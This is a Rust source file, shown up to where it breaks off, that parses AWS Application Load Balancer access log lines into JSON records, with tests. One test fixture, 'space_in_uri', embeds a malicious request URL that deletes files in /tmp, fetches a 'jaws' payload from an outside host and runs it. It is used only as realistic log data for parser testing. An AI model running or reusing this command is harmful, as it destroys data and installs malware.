//! Application Load Balancer access log lines (`reference/alb.md`, section 2).
//!
//! A line is space-separated fields, some enclosed in double quotes, mapped by position. ALB
//! writes a literal `"` inside a quoted field as `\x22` (and `\` as `\x5c`, non-ASCII as one
//! `\xNN` per UTF-8 byte); those escapes are decoded, and a backslash-escaped `\"` (what other
//! writers and VRL's parser use) is accepted too. AWS appends new fields at the end of the line
//! and has done so four times (2019, 2020, 2024, 2025), so:
//! - a line may end anywhere after `trace_id` (field 18): later fields are absent;
//! - fields after the 33rd (`request_transform_status`) are kept, in order, in `extra`;
//! - a line that ends before `trace_id` is [`ParseError::MissingField`] naming the first
//!   missing field.
//!
//! The fields are one table, `alb_table!`: the entry, its reading, the record and both JSON
//! writers are generated from it (`elb_format.rs`). The tokenizer (`elb_fields.rs`) borrows
//! from the line and allocates only for a decoded escape, so parsing is about as fast as
//! reading the bytes (see `benches/parse.rs`).

use std::borrow::Cow;

use memchr::memchr;

use crate::elb_fields::{Field, Fields, Tokens, split, unescape_quoted};
use crate::elb_format::{self, elb_format, member, native_keys, plain, record_members};
use crate::error::ParseError;
use crate::record::{CERTIFICATE_ARN, Record, RequestRecord, SCHEMA_VERSION, TARGET_GROUP_ARN};
use crate::record_json::JsonObject;

/// An `address:port` pair. IPv6 addresses are written without brackets (`2001:db8::1:443`),
/// so the port is what follows the last colon; `[2001:db8::1]:443` is accepted too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Endpoint<'a> {
    /// The address, without brackets.
    pub ip: &'a str,
    /// The port.
    pub port: u16,
}

impl<'a> Endpoint<'a> {
    /// Splits `ip:port` on the last colon; `None` when there is no colon, no address or the
    /// port is not a number from 0 to 65535.
    pub fn parse(text: &'a str) -> Option<Endpoint<'a>> {
        // The port is the run of digits at the end; the last colon must come right before
        // it (were it further on, the port would hold a non-digit).
        let bytes = text.as_bytes();
        let digits = bytes
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_digit())
            .count();
        let colon = bytes.len().checked_sub(digits + 1)?;
        if bytes.get(colon) != Some(&b':') || digits == 0 {
            return None;
        }
        let port = bytes.get(colon + 1..)?.iter().try_fold(0u16, |n, &d| {
            n.checked_mul(10)?.checked_add(u16::from(d - b'0'))
        })?;
        let ip = text.get(..colon)?;
        let ip = ip
            .strip_prefix('[')
            .and_then(|ip| ip.strip_suffix(']'))
            .unwrap_or(ip);
        if ip.is_empty() {
            return None;
        }
        Some(Endpoint { ip, port })
    }

    /// Whether `text` names this endpoint (`ip:port`, brackets or not).
    fn is(&self, text: &str) -> bool {
        Endpoint::parse(text).is_some_and(|other| other == *self)
    }
}

/// A request line, `METHOD URL PROTOCOL`. The URL is what lies between the first and the last
/// space, because ALB logs the URL as the client sent it, unescaped spaces included.
///
/// When the line does not have that shape (`- - - ` for a connection that never sent a request,
/// `- http://example.com:80- -` for a malformed one), method, URL and protocol are `None` and
/// the whole text is in `raw`.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Request<'a> {
    /// The method (`GET`), when the line splits.
    pub method: Option<&'a str>,
    /// The URL, decoded from `\xNN` escapes, when the line splits.
    pub url: Option<Cow<'a, str>>,
    /// The protocol (`HTTP/1.1`, `HTTP/2.0`), when the line splits.
    pub protocol: Option<&'a str>,
    /// The whole request text, decoded, only when it does not split.
    pub raw: Option<Cow<'a, str>>,
}

impl<'a> Request<'a> {
    /// Splits the text of a request field (without its quotes, escapes not yet decoded).
    /// `-` or empty is an absent request (all `None`).
    pub fn split(text: &'a str) -> Request<'a> {
        Request::split_with(text, true)
    }

    /// As [`Request::split`]; `decode` false when the tokenizer saw no backslash in the text.
    pub(crate) fn split_with(text: &'a str, decode: bool) -> Request<'a> {
        let unescape = |text: &'a str| -> Cow<'a, str> {
            if decode {
                unescape_quoted(text)
            } else {
                Cow::Borrowed(text)
            }
        };
        if text.is_empty() || text == "-" {
            return Request::default();
        }
        let bytes = text.as_bytes();
        if let (Some(first), Some(last)) = (memchr(b' ', bytes), memchr::memrchr(b' ', bytes)) {
            let method = &text[..first];
            let protocol = &text[last + 1..];
            let url = text.get(first + 1..last).unwrap_or("");
            if is_method(method) && protocol.starts_with("HTTP/") && !url.is_empty() {
                return Request {
                    method: Some(method),
                    url: Some(unescape(url)),
                    protocol: Some(protocol),
                    raw: None,
                };
            }
        }
        Request {
            raw: Some(unescape(text)),
            ..Request::default()
        }
    }
}

/// An HTTP method is a token (RFC 9110): letters, digits and `!#$%&'*+-.^_`|~`; `-` alone is
/// what ALB writes when there was no method.
fn is_method(text: &str) -> bool {
    text != "-"
        && !text.is_empty()
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
}

/// Whether a line is the content of the test object ELB writes when logging is enabled
/// (`ELBAccessLogTestFile`: `Enable AccessLog for ELB: app/name/id at 2025-05-30T16:47:00.781Z`,
/// and `Enable ConnectionLog for ELB: …` for connection logs). Such lines are not log entries.
pub fn is_control_line(line: &str) -> bool {
    let line = line.trim_start_matches(['\u{feff}', ' ']);
    let Some(rest) = line.strip_prefix("Enable ") else {
        return false;
    };
    // Only AccessLog and ConnectionLog are known; any `<Kind>Log for ELB` is the same message.
    rest.split_once(' ')
        .is_some_and(|(kind, tail)| kind.ends_with("Log") && tail.starts_with("for ELB"))
}

/// The ALB access log's fields, one row each, in the order of the record's keys (which is
/// `RequestRecord`'s declaration order, so serde and the fast writers agree). A row: the
/// entry member and its type, its kind (`crate::elb_format`), its number in the line (from 0)
/// and documented name, any other keys a native JSON record carries it under, and the record
/// keys and `RequestRecord` members it fills. Fields 1–18 are on every line; AWS appended the
/// later ones (2019, 2020, 2024, 2025), so a line may end anywhere after `trace_id`.
///
/// Invoked with the name of a macro, it hands that macro the table: `elb_format!` makes the
/// entry, its reading and its record from it, `alb_json!` the two JSON writers.
macro_rules! alb_table {
    ($then:ident) => {
        $then! {
            /// One parsed ALB access log line, borrowing from the line.
            ///
            /// Absent values (`-`, `"-"`, `-1` for a processing time, or a field the line ends
            /// before) are `None`. Quoted text fields are `Cow` because decoding an escape
            /// allocates. The members' numbers are the fields' places in the line.
            #[derive(Debug, Clone, PartialEq)]
            pub struct AlbEntry<'a> for RequestRecord in Record::Alb, required 18,
                record_time record_time_of(time, request_creation_time) {
                /// 2 `time`: when the response was sent (WebSockets: when the connection
                /// closed), µs UTC.
                time: i64 = time(1, "time") => ["te" end],
                /// 1 `type`: http, https, h2, grpcs, ws or wss (other values are kept as they
                /// are).
                kind: &'a str = text(0, "type") => ["ty" kind],
                /// 3 `elb`: the load balancer's resource id (`app/name/id`).
                elb: &'a str = text(2, "elb") => ["lb" server],
                /// 4 `client:port`.
                client: Option<Endpoint<'a>> = endpoint(3, "client:port", "client:port", "client_port")
                    => ["ip" client_ip, "cp" client_port],
                /// 5 `target:port`; `-` for a Lambda target, a WAF block or an incomplete
                /// request.
                target: Option<Endpoint<'a>> = endpoint(4, "target:port", "target:port", "target_port")
                    => ["tip" target_ip, "tpt" target_port],
                /// 13 `request`, split into method, URL and protocol.
                request: Request<'a> = request(12, "request", "request_line", "request")
                    => ["m" method, "u" url, "pr" protocol, "rq" request_raw],
                /// 9 `elb_status_code`.
                elb_status_code: Option<u16> = status(8, "elb_status_code") => ["s" status],
                /// 10 `target_status_code`; absent when the target sent no response.
                target_status_code: Option<u16> = status(9, "target_status_code")
                    => ["ts" target_status],
                /// 11 `received_bytes` (headers included).
                received_bytes: Option<u64> = count(10, "received_bytes") => ["rb" received_bytes],
                /// 12 `sent_bytes` (headers included).
                sent_bytes: Option<u64> = count(11, "sent_bytes") => ["sb" sent_bytes],
                /// 14 `user_agent` (AWS cuts it at 8 KB).
                user_agent: Option<Cow<'a, str>> = string(13, "user_agent") => ["ua" user_agent],
                /// 6 `request_processing_time`, seconds.
                request_processing_time: Option<f64> = seconds(5, "request_processing_time")
                    => ["dq" request_time],
                /// 7 `target_processing_time`, seconds.
                target_processing_time: Option<f64> = seconds(6, "target_processing_time")
                    => ["dt" target_time],
                /// 8 `response_processing_time`, seconds.
                response_processing_time: Option<f64> = seconds(7, "response_processing_time")
                    => ["dr" response_time],
                /// 15 `ssl_cipher`.
                ssl_cipher: Option<&'a str> = word(14, "ssl_cipher") => ["ci" ssl_cipher],
                /// 16 `ssl_protocol`.
                ssl_protocol: Option<&'a str> = word(15, "ssl_protocol") => ["sp" ssl_protocol],
                /// 17 `target_group_arn` (`-` seen on real redirect and 400 lines).
                target_group_arn: Option<&'a str> = word(16, "target_group_arn")
                    as TARGET_GROUP_ARN => ["tg" target_group],
                /// 18 `trace_id`: the X-Amzn-Trace-Id header.
                trace_id: Option<Cow<'a, str>> = string(17, "trace_id") => ["tr" trace_id],
                /// 19 `domain_name`: the TLS SNI.
                domain_name: Option<Cow<'a, str>> = string(18, "domain_name") => ["sni" sni],
                /// 20 `chosen_cert_arn`, or `session-reused`.
                chosen_cert_arn: Option<Cow<'a, str>> = string(19, "chosen_cert_arn")
                    as CERTIFICATE_ARN => ["crt" cert],
                /// 21 `matched_rule_priority`: 1–50 000, 0 for the default action, -1 for a
                /// rule error.
                matched_rule_priority: Option<i32> = integer(20, "matched_rule_priority")
                    => ["rule" rule_priority],
                /// 22 `request_creation_time`: when the request arrived, µs UTC (the record's
                /// `t`, see [`AlbEntry::record_time`]).
                request_creation_time: Option<i64> = opt_time(21, "request_creation_time") => [],
                /// 23 `actions_executed`, comma-separated.
                actions_executed: Option<Cow<'a, str>> = string(22, "actions_executed")
                    => ["act" actions],
                /// 24 `redirect_url`.
                redirect_url: Option<Cow<'a, str>> = string(23, "redirect_url") => ["rd" redirect_url],
                /// 25 `error_reason`.
                error_reason: Option<Cow<'a, str>> = string(24, "error_reason") => ["er" error_reason],
                /// 26 `target:port_list`, space-separated (in the record only when it says
                /// more than `target:port`).
                target_port_list: Option<Cow<'a, str>> = string(25, "target:port_list", "target:port_list", "target_port_list")
                    via target_list(target) => ["tl" target_list],
                /// 27 `target_status_code_list`, space-separated (in the record only when it
                /// says more than `target_status_code`).
                target_status_code_list: Option<Cow<'a, str>> = string(26, "target_status_code_list")
                    via target_status_list(target_status_code) => ["tsl" target_status_list],
                /// 28 `classification` (desync mitigation): Acceptable, Ambiguous, Severe.
                classification: Option<Cow<'a, str>> = string(27, "classification")
                    => ["cl" classification],
                /// 29 `classification_reason`.
                classification_reason: Option<Cow<'a, str>> = string(28, "classification_reason")
                    => ["clr" classification_reason],
                /// 30 `conn_trace_id`: bare `TID_<hex>`, the key into the connection log
                /// (since 2024-05).
                conn_trace_id: Option<&'a str> = word(29, "conn_trace_id") => ["cid" conn_trace_id],
                /// 31 `transformed_host` (since 2025-08).
                transformed_host: Option<Cow<'a, str>> = string(30, "transformed_host")
                    => ["th" transformed_host],
                /// 32 `transformed_uri`.
                transformed_uri: Option<Cow<'a, str>> = string(31, "transformed_uri")
                    => ["tu" transformed_uri],
                /// 33 `request_transform_status`.
                request_transform_status: Option<Cow<'a, str>> = string(32, "request_transform_status")
                    => ["tst" transform_status],
            }
        }
    };
}

/// A row's JSON members (with its ARN prefix or view, if any).
macro_rules! json_members {
    ($o:ident, $kind:ident, $keys:expr, $v:expr) => {
        member::$kind(&mut $o, $keys, &$v)
    };
    ($o:ident, $kind:ident, $keys:expr, $v:expr, as $arn:ident) => {
        member::arn(&mut $o, $keys, &$v, &$arn)
    };
    ($o:ident, $kind:ident, $keys:expr, $v:expr, via $view:ident($($arg:expr),*)) => {
        member::word(&mut $o, $keys, &$view($v.as_deref(), $($arg),*))
    };
}

/// The two JSON writers of the ALB record, from [`alb_table!`]: `write_json` from an entry,
/// `write_plain_line` from the split fields of a line with nothing to escape. Both write the
/// record tag, `v`, `t`, each row's members in row order, then `x`.
macro_rules! alb_json {
    (
        $(#[$meta:meta])*
        pub struct $entry:ident<$lt:lifetime> for $record:ident in Record::$variant:ident,
            required $required:literal,
            record_time $t_fn:ident($($t_arg:ident),*) {
            $(
                $(#[doc = $doc:literal])*
                $member:ident: $ty:ty = $kind:ident($index:literal, $name:literal $(, $native:literal)*)
                    $(as $arn:ident)? $(via $view:ident($($arg:ident),*))?
                    => [$($key:literal $rec:ident),*],
            )*
        }
    ) => {
        impl $entry<'_> {
            /// When the request arrived: `request_creation_time`, or for lines from before
            /// 2019, which have none, `time` (the best there is). The record's `t`.
            pub fn record_time(&self) -> i64 {
                $t_fn($(self.$t_arg),*)
            }

            /// [`AlbEntry::write_record_json`]; `plain` says that no value needs a JSON escape
            /// (they are then copied as they are).
            #[inline(always)]
            fn write_json(&self, out: &mut String, plain: bool) {
                let mut o = JsonObject::open(out, "alb", plain);
                o.int(",\"v\":", i64::from(SCHEMA_VERSION));
                o.int(",\"t\":", self.record_time());
                $(
                    json_members!(o, $kind, [$((concat!(",\"", $key, "\":"), concat!(",\"", $key, "\":\""))),*],
                        self.$member $(, as $arn)? $(, via $view($(self.$arg),*))?);
                )*
                o.list(",\"x\":", &self.extra);
                o.close();
            }
        }

        /// The record JSON of a line with nothing to escape, written straight from its split
        /// fields (no entry built, nothing decoded: a line without a backslash has no
        /// escapes), byte for byte what [`AlbEntry::write_record_json`] writes; returns the
        /// record time. `None` when a field is missing or invalid: the caller then drops what
        /// was written and reads the line the field-by-field way, which names the first
        /// problem.
        #[inline(always)]
        fn write_plain_line(
            fields: &Fields<'_, FIELD_COUNT>,
            extra: &[Field<'_>],
            out: &mut String,
        ) -> Option<i64> {
            if fields.unterminated || fields.found < $required {
                return None;
            }
            $(
                let $member = plain::$kind(elb_format::field(fields, $index), $name)?;
            )*
            let record_time = $t_fn($($t_arg),*);
            let mut o = JsonObject::open(out, "alb", true);
            o.int(",\"v\":", i64::from(SCHEMA_VERSION));
            o.int(",\"t\":", record_time);
            $(
                json_members!(o, $kind, [$((concat!(",\"", $key, "\":"), concat!(",\"", $key, "\":\""))),*],
                    $member $(, as $arn)? $(, via $view($($arg),*))?);
            )*
            write_plain_extra(&mut o, extra);
            o.close();
            Some(record_time)
        }
    };
}

alb_table!(elb_format);
alb_table!(alb_json);

/// `request_creation_time`, else `time`.
#[inline(always)]
fn record_time_of(time: i64, request_creation_time: Option<i64>) -> i64 {
    request_creation_time.unwrap_or(time)
}

/// The `x` member of a plain line: its fields after the defined ones, as written.
#[inline(always)]
fn write_plain_extra(o: &mut JsonObject<'_>, extra: &[Field<'_>]) {
    if extra.is_empty() {
        return;
    }
    o.key(",\"x\":");
    o.out.push('[');
    for (i, field) in extra.iter().enumerate() {
        if i > 0 {
            o.out.push(',');
        }
        o.string(field.text);
    }
    o.out.push(']');
}

/// Parses one ALB access log line and appends the compact JSON of its record to `out`
/// ([`AlbEntry::write_record_json`]); returns the record's time ([`AlbEntry::record_time`]).
/// On an error nothing is written.
///
/// The same as [`parse_line`] then `write_record_json`, but the entry (some 700 bytes) is
/// written from where it was parsed instead of being moved out through a `Result`: what the
/// ingest does for every line.
pub fn line_to_json(line: &str, out: &mut String) -> Result<i64, ParseError> {
    let mut f = Tokens::new(line);
    let mut fields = Fields::new(&FIELD_NAMES);
    let extra = split(&mut f, &mut fields)?;
    // Nearly every line has nothing a JSON string must escape (ALB writes `\xNN` for what is
    // not printable): one look at the whole line spares a look at each value written, and
    // such a line is written straight from its fields.
    let plain = f.json_plain();
    if plain && let Ok(extra) = &extra {
        let start = out.len();
        if let Some(time) = write_plain_line(&fields, extra, out) {
            return Ok(time);
        }
        out.truncate(start);
    }
    let entry = entry_from(&fields, extra)?;
    entry.write_json(out, plain);
    Ok(entry.record_time())
}

impl AlbEntry<'_> {
    /// Appends the compact JSON of `Record::Alb(self.to_record())` to `out`, byte for byte
    /// (a property test compares the two), without building the record.
    ///
    /// Building a [`RequestRecord`] allocates a string per field and costs more than parsing
    /// the line; this writes straight from the borrowed entry, so the ingest can keep up with
    /// gunzip. Key order and names follow `RequestRecord`'s declaration.
    pub fn write_record_json(&self, out: &mut String) {
        self.write_json(out, false);
    }
}

/// `target:port_list`, unless it only repeats `target:port`. The lists hold one item equal to
/// the single value today; they are stored only when they say something more.
fn target_list<'a>(list: Option<&'a str>, target: Option<Endpoint<'_>>) -> Option<&'a str> {
    list.filter(|list| !target.is_some_and(|t| t.is(list)))
}

/// `target_status_code_list`, unless it only repeats `target_status_code`.
fn target_status_list(list: Option<&str>, status: Option<u16>) -> Option<&str> {
    list.filter(|list| list.parse::<u16>().ok() != status)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#;

    fn with(find: &str, replace: &str) -> String {
        assert!(HTTP.contains(find), "{find}");
        HTTP.replacen(find, replace, 1)
    }

    #[test]
    fn tricky_lines() {
        type Check = fn(&AlbEntry<'_>);
        let cases: Vec<(&str, String, Check)> = vec![
            (
                "escaped_quote_in_user_agent",
                with(r#""curl/7.46.0""#, r#""Mozilla \x22quoted\x22 5.0""#),
                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"Mozilla "quoted" 5.0"#)),
            ),
            (
                "backslash_quote_in_user_agent",
                with(r#""curl/7.46.0""#, r#""say \"hi\" there""#),
                |e| {
                    assert_eq!(e.user_agent.as_deref(), Some(r#"say "hi" there"#));
                    assert_eq!(e.ssl_cipher, None);
                },
            ),
            (
                "backslash_quote_before_separator",
                with(r#""curl/7.46.0""#, r#""quote then space \" x \"""#),
                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"quote then space " x ""#)),
            ),
            (
                "ipv6_client_without_brackets",
                with(
                    "192.168.131.39:2817",
                    "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718",
                ),
                |e| {
                    assert_eq!(
                        e.client,
                        Some(Endpoint {
                            ip: "2a02:a33c:4538:1:bcf4:5264:e01c:f215",
                            port: 50718
                        })
                    )
                },
            ),
            (
                "ipv6_client_with_brackets",
                with("192.168.131.39:2817", "[fe80::1]:443"),
                |e| {
                    assert_eq!(
                        e.client,
                        Some(Endpoint {
                            ip: "fe80::1",
                            port: 443
                        })
                    )
                },
            ),
            (
                "utf8_escapes_in_url",
                with(
                    "http://www.example.com:80/",
                    "http://www.example.com:80/\\xE6\\x97\\xA5?q=\\xC3\\x88",
                ),
                |e| {
                    assert_eq!(
                        e.request.url.as_deref(),
                        Some("http://www.example.com:80/日?q=È")
                    );
                    assert_eq!(e.request.method, Some("GET"));
                },
            ),
            (
                "space_in_uri",
                with(
                    "http://www.example.com:80/",
                    "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                ),
                |e| {
                    assert_eq!(
                        e.request,
                        Request {
                            method: Some("GET"),
                            url: Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws".into()),
                            protocol: Some("HTTP/1.1"),
                            raw: None,
                        }
                    )
                },
            ),
            (
                "no_request_line",
                with("GET http://www.example.com:80/ HTTP/1.1", "- - - "),
                |e| {
                    assert_eq!(
                        e.request,
                        Request {
                            raw: Some("- - - ".into()),
                            ..Request::default()
                        }
                    )
                },
            ),
            (
                "malformed_request_dash_glued_to_port",
                with(
                    "GET http://www.example.com:80/ HTTP/1.1",
                    "- http://www.example.com:80- -",
                ),
                |e| {
                    assert_eq!(
                        e.request.raw.as_deref(),
                        Some("- http://www.example.com:80- -")
                    )
                },
            ),
            (
                "target_dash_for_lambda",
                with("10.0.0.1:80 0.000", "- 0.000")
                    .replace(r#""10.0.0.1:80" "200""#, r#""-" "-""#),
                |e| {
                    assert_eq!(e.target, None);
                    assert_eq!(e.target_port_list, None);
                    assert_eq!(e.target_status_code_list, None);
                },
            ),
            (
                "all_minus_one_timings",
                with("0.000 0.001 0.000 200 200", "-1 -1 -1 502 -"),
                |e| {
                    assert_eq!(
                        (
                            e.request_processing_time,
                            e.target_processing_time,
                            e.response_processing_time
                        ),
                        (None, None, None)
                    );
                    assert_eq!((e.elb_status_code, e.target_status_code), (Some(502), None));
                },
            ),
            (
                "ends_at_trace_id",
                HTTP[..HTTP.find(r#" "-" "-" 0"#).unwrap()].to_string(),
                |e| {
                    assert_eq!(
                        e.trace_id.as_deref(),
                        Some("Root=1-58337262-36d228ad5d99923122bbe354")
                    );
                    assert_eq!(
                        (e.matched_rule_priority, e.request_creation_time),
                        (None, None)
                    );
                },
            ),
            (
                "ends_at_error_reason",
                HTTP[..HTTP.find(r#" "10.0.0.1:80" "200""#).unwrap()].to_string(),
                |e| {
                    assert_eq!(e.actions_executed.as_deref(), Some("forward"));
                    assert_eq!(e.error_reason, None);
                    assert_eq!(e.target_port_list, None);
                },
            ),
            (
                "ends_at_target_status_code_list",
                HTTP.strip_suffix(r#" "-" "-""#).unwrap().to_string(),
                |e| {
                    assert_eq!(e.target_status_code_list.as_deref(), Some("200"));
                    assert_eq!(e.classification, None);
                },
            ),
            (
                "session_reused_cert_and_rule_error",
                with(r#""-" "-" 0 "#, r#""example.com" "session-reused" -1 "#),
                |e| {
                    assert_eq!(e.chosen_cert_arn.as_deref(), Some("session-reused"));
                    assert_eq!(e.matched_rule_priority, Some(-1));
                },
            ),
            ("crlf", format!("{HTTP}\r\n"), |e| {
                assert_eq!(e.classification_reason, None)
            }),
            (
                "conn_trace_id_then_transforms_then_unknown",
                format!(
                    "{HTTP} TID_1234abcd5678ef90 \"h.example\" \"/new\" \"TransformSuccess\" 10.1.2.3 \"-\""
                ),
                |e| {
                    assert_eq!(e.conn_trace_id, Some("TID_1234abcd5678ef90"));
                    assert_eq!(e.transformed_host.as_deref(), Some("h.example"));
                    assert_eq!(e.transformed_uri.as_deref(), Some("/new"));
                    assert_eq!(
                        e.request_transform_status.as_deref(),
                        Some("TransformSuccess")
                    );
                    assert_eq!(e.extra, vec![Cow::Borrowed("10.1.2.3"), Cow::Borrowed("-")]);
                },
            ),
            (
                "huge_user_agent",
                with("curl/7.46.0", &"A".repeat(1 << 20)),
                |e| assert_eq!(e.user_agent.as_deref().map(str::len), Some(1 << 20)),
            ),
            (
                "non_ascii_raw_bytes_lossy_decoded",
                {
                    let raw: Vec<u8> = with("curl/7.46.0", "caf\u{1}")
                        .bytes()
                        .map(|b| if b == 1 { 0xE9 } else { b })
                        .collect();
                    String::from_utf8_lossy(&raw).into_owned()
                },
                |e| assert_eq!(e.user_agent.as_deref(), Some("caf\u{fffd}")),
            ),
        ];
        for (name, line, check) in cases {
            match parse_line(&line) {
                Ok(entry) => check(&entry),
                Err(e) => panic!("{name}: {e}"),
            }
        }
    }

    #[test]
    fn error_table() {
        let cases: Vec<(&str, String, ParseError)> = vec![
            ("empty_line", String::new(), ParseError::Empty),
            ("only_line_end", "\r\n".into(), ParseError::Empty),
            (
                "ends_before_trace_id",
                HTTP[..HTTP.find(r#" "Root="#).unwrap()].to_string(),
                ParseError::MissingField("trace_id"),
            ),
            ("only_type", "http".into(), ParseError::MissingField("time")),
            (
                "bad_time",
                with("2018-07-02T22:23:00.186641Z", "yesterday"),
                ParseError::invalid("time", "yesterday"),
            ),
            (
                "bad_port",
                with(":2817", ":99999"),
                ParseError::invalid("client:port", "192.168.131.39:99999"),
            ),
            (
                "bad_timing",
                with("0.001", "fast"),
                ParseError::invalid("target_processing_time", "fast"),
            ),
            (
                "unterminated_user_agent",
                HTTP[..HTTP.find("curl/7").unwrap() + 4].to_string(),
                ParseError::Unterminated("user_agent"),
            ),
            (
                "control_line_is_not_an_entry",
                "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
                    .into(),
                ParseError::invalid("time", "AccessLog"),
            ),
        ];
        for (name, line, want) in cases {
            assert_eq!(parse_line(&line), Err(want), "{name}");
        }
    }

    #[test]
    fn every_prefix_is_handled() {
        let long = format!("{HTTP} TID_1234abcd5678ef90 \"-\" \"-\" \"-\" extra");
        for (cut, _) in long.char_indices() {
            match parse_line(&long[..cut]) {
                Ok(entry) => assert!(
                    cut >= HTTP.find(r#" "-" "-" 0"#).unwrap(),
                    "{cut}: {entry:?}"
                ),
                Err(ParseError::Empty) => assert_eq!(cut, 0),
                Err(
                    ParseError::MissingField(name)
                    | ParseError::Unterminated(name)
                    | ParseError::InvalidField { field: name, .. },
                ) => assert!(!name.is_empty()),
                Err(other) => panic!("{cut}: {other}"),
            }
        }
    }

    /// The serde names of `RequestRecord` (`record.rs`) are the table's keys, and the table
    /// maps every key the record of a full line has.
    #[test]
    fn the_record_keys_are_the_tables() {
        let full = r#"https 2018-07-02T22:23:00.186641Z app/lb/1 192.168.1.1:2817 10.0.0.1:80 0.001 0.002 0.003 200 201 34 366 "GET http://x/ HTTP/1.1" "curl" ECDHE TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/t/1 "Root=1" "x.example" "arn:aws:acm:us-east-2:123456789012:certificate/1" 1 2018-07-02T22:22:48.364000Z "forward" "https://r/" "E" "10.0.0.1:80 10.0.0.2:80" "200 503" "Ambiguous" "R" TID_1 "h" "/u" "ok" future"#;
        let raw = full.replace("GET http://x/ HTTP/1.1", "- - -");
        let json: Vec<String> = [full, &raw]
            .iter()
            .map(|line| parse_record(line).unwrap().to_json())
            .collect();
        elb_format::assert_record_keys(&json, RECORD_KEYS);
    }

    #[test]
    fn control_lines() {
        assert!(is_control_line(
            "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
        ));
        assert!(is_control_line(
            "Enable ConnectionLog for ELB: app/x/y at 2025-05-30T16:47:00.781Z"
        ));
        assert!(!is_control_line(HTTP));
        assert!(!is_control_line("Enable something else"));
    }

    #[test]
    fn record_drops_lists_that_repeat_the_single_value() {
        let entry = parse_line(HTTP).unwrap();
        let record = entry.to_record();
        assert_eq!(
            (record.target_list, record.target_status_list),
            (None, None)
        );
        let line = with(
            r#""10.0.0.1:80" "200""#,
            r#""10.0.0.1:80 10.0.0.2:80" "200 503""#,
        );
        let record = parse_line(&line).unwrap().to_record();
        assert_eq!(
            record.target_list.as_deref(),
            Some("10.0.0.1:80 10.0.0.2:80")
        );
        assert_eq!(record.target_status_list.as_deref(), Some("200 503"));
    }

    /// Writes a quoted field the way ALB does: `"`, `\`, controls and non-ASCII as `\xNN`.
    fn quote(value: Option<&str>) -> String {
        let Some(value) = value else {
            return "\"-\"".into();
        };
        let mut out = String::from("\"");
        for b in value.bytes() {
            if b == b'"' || b == b'\\' || !(0x20..0x7f).contains(&b) {
                out.push_str(&format!("\\x{b:02x}"));
            } else {
                out.push(b as char);
            }
        }
        out.push('"');
        out
    }

    /// Both fast writers (from the entry, and `line_to_json` from the line) write the serde
    /// JSON of the entry's record.
    fn writers_agree(entry: &AlbEntry<'_>, line: &str) -> Result<(), TestCaseError> {
        let mut fast = String::new();
        entry.write_record_json(&mut fast);
        let serde = Record::Alb(entry.to_record()).to_json();
        prop_assert_eq!(&fast, &serde);
        let mut direct = String::new();
        prop_assert_eq!(line_to_json(line, &mut direct), Ok(entry.record_time()));
        prop_assert_eq!(direct, serde, "{}", line);
        Ok(())
    }

    fn bare<T: ToString>(value: Option<T>) -> String {
        value.map_or_else(|| "-".into(), |v| v.to_string())
    }

    fn time(us: i64) -> String {
        let ts = jiff::Timestamp::from_microsecond(us).unwrap();
        ts.strftime("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()
    }

    fn render(e: &AlbEntry<'_>) -> String {
        let ep = |e: Option<Endpoint<'_>>| e.map_or("-".into(), |e| format!("{}:{}", e.ip, e.port));
        let secs = |s: Option<f64>| s.map_or("-1".into(), |s| format!("{s:.3}"));
        let request = match (&e.request.method, &e.request.url, &e.request.protocol) {
            (Some(m), Some(u), Some(p)) => format!("{m} {u} {p}"),
            _ => e.request.raw.as_deref().unwrap_or("-").to_string(),
        };
        let mut fields = vec![
            e.kind.to_string(),
            time(e.time),
            e.elb.to_string(),
            ep(e.client),
            ep(e.target),
            secs(e.request_processing_time),
            secs(e.target_processing_time),
            secs(e.response_processing_time),
            bare(e.elb_status_code),
            bare(e.target_status_code),
            bare(e.received_bytes),
            bare(e.sent_bytes),
            quote(Some(&request)),
            quote(e.user_agent.as_deref()),
            bare(e.ssl_cipher),
            bare(e.ssl_protocol),
            bare(e.target_group_arn),
            quote(e.trace_id.as_deref()),
            quote(e.domain_name.as_deref()),
            quote(e.chosen_cert_arn.as_deref()),
            bare(e.matched_rule_priority),
            e.request_creation_time.map_or("-".into(), time),
            quote(e.actions_executed.as_deref()),
            quote(e.redirect_url.as_deref()),
            quote(e.error_reason.as_deref()),
            quote(e.target_port_list.as_deref()),
            quote(e.target_status_code_list.as_deref()),
            quote(e.classification.as_deref()),
            quote(e.classification_reason.as_deref()),
            bare(e.conn_trace_id),
            quote(e.transformed_host.as_deref()),
            quote(e.transformed_uri.as_deref()),
            quote(e.request_transform_status.as_deref()),
        ];
        fields.extend(e.extra.iter().map(|x| quote(Some(x))));
        fields.join(" ")
    }

    /// A value that is not `-`/empty and has no space (for unquoted fields).
    fn token() -> impl Strategy<Value = String> {
        "[A-Za-z0-9_./:=-]{2,20}"
    }

    /// Any text for a quoted field, except the `-` that means absent.
    fn text() -> impl Strategy<Value = Option<String>> {
        prop::option::of("\\PC{1,30}".prop_filter("dash means absent", |s| s != "-"))
    }

    fn endpoint() -> impl Strategy<Value = Option<(String, u16)>> {
        prop::option::of((
            prop_oneof![
